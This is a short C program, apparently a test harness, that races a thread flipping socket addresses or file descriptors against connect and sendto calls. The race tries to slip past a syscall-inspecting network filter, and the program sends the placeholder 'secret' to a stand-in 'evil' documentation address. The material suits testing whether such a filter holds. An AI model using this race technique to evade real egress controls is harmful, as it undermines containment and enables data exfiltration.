/* One thread connects or sends, another changes what the first one points to. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static union {
    struct sockaddr any;
    struct sockaddr_in in;
    struct sockaddr_un un;
} address, good, evil, unix_address;
static volatile int ended;
static int target = 100, sources[2];
static const char *how;
static socklen_t length = sizeof good.in;

static void flip_memory(const void *one, const void *other, size_t length)
{
    while (!ended) {
        memcpy((void *)&address, one, length);
        __asm__ volatile("" ::: "memory");
        memcpy((void *)&address, other, length);
        __asm__ volatile("" ::: "memory");
    }
}

static void *flip(void *unused)
{
    if (!strcmp(how, "address") || !strcmp(how, "sendto"))
        flip_memory(&good, &evil, sizeof good.in);
    else if (!strcmp(how, "family") || !strcmp(how, "unix"))
        flip_memory(&unix_address, &evil, length);
    else
        while (!ended) {
            dup2(sources[0], target);
            dup2(sources[1], target);
        }
    return unused;
}

static void fill(struct sockaddr_in *in, const char *text)
{
    in->sin_family = AF_INET;
    in->sin_port = htons(443);
    inet_pton(AF_INET, text, &in->sin_addr);
}

int main(int argc, char **argv)
{
    int attempts = argc > 2 ? atoi(argv[2]) : 0, datagrams = !strcmp(argv[1], "datagram");
    int flips_descriptors = datagrams || !strcmp(argv[1], "descriptor");
    int unix_sockets = !strcmp(argv[1], "unix"), listener = -1, connected = 0;
    int sends = !strcmp(argv[1], "sendto");
    pthread_t thread;

    how = argv[1];
    fill(&good.in, sends ? "127.0.0.1" : "203.0.113.7");
    fill(&evil.in, "198.51.100.66");
    unix_address.un.sun_family = AF_UNIX;
    strcpy(unix_address.un.sun_path, "/nowhere/at/all");
    if (unix_sockets) {
        /* As long as an address of the internet. */
        strcpy(unix_address.un.sun_path, "./the-listener");
        length = sizeof unix_address.un.sun_family + sizeof "./the-listener";
        listener = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
        bind(listener, &unix_address.any, length);
        listen(listener, 4096);
    }
    address = flips_descriptors ? evil : good;
    sources[0] = socket(AF_UNIX, datagrams ? SOCK_DGRAM : SOCK_STREAM, 0);
    sources[1] = socket(AF_INET, datagrams ? SOCK_DGRAM : SOCK_STREAM, 0);
    pthread_create(&thread, NULL, flip, NULL);
    for (int i = 0; i < attempts; i++) {
        if (sends) {
            int fd = socket(AF_INET, SOCK_DGRAM, 0);
            sendto(fd, "secret", 6, MSG_NOSIGNAL | MSG_DONTWAIT, &address.any, length);
            connect(fd, &address.any, length);
            send(fd, "secret", 6, MSG_NOSIGNAL | MSG_DONTWAIT);
            close(fd);
        } else if (datagrams) {
            sendto(target, "secret", 6, MSG_NOSIGNAL | MSG_DONTWAIT, &evil.any, sizeof evil.in);
        } else if (flips_descriptors) {
            connect(target, &evil.any, sizeof evil.in);
        } else {
            /* Of unix sockets, every other is one of the internet. */
            int fd = socket(unix_sockets && i % 2 ? AF_UNIX : AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
            connected += !connect(fd, &address.any, length) && unix_sockets;
            close(fd);
            if (unix_sockets)
                close(accept(listener, NULL, NULL));
        }
    }
    ended = 1;
    pthread_join(thread, NULL);
    printf("%d attempts\n%d connected\n", attempts, connected);
    return 0;
}
